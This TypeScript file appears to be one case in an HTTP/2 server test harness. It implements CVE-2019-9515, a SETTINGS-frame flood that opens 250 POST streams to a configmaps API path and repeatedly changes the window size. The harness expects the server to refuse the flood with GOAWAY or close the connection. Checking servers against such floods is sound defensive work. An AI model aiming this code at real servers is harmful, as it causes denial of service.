// SETTINGS that change the window of all open streams, again and again.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2019-9515',
  does: 'changes the window of 250 open streams by SETTINGS',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM'],
  must: ['GOAWAY ENHANCE_YOUR_CALM', 'closed'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const post = request(head(target, 'POST', '/api/v1/namespaces/default/configmaps'), 0)
      const changes = Buffer.concat(
        Array.from({ length: 100 }, (_, i) => h2.settings([h2.INITIAL_WINDOW_SIZE, i * 1_000])),
      )
      const pieces = [connection.batch(250, post)]
      return { next: () => pieces.shift() ?? changes }
    }),
}
